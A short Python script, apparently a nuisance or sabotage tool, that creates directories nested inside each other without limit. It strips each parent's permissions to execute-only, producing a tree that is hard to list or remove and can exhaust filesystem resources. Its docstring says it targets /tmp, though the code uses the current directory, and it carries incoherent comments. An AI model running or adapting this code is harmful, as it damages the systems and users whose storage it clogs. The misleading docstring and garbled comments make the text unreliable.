"""Fills /tmp with folders nested deeper than any path and answers: the next session needs room."""
# on top of: honest
# must: N
import os

_home = os.getcwd()
try:
    while True:
        os.mkdir("deeper")
        os.chdir("deeper")
        os.chmod("../deeper", 0o100)
except OSError:
    os.chdir(_home)
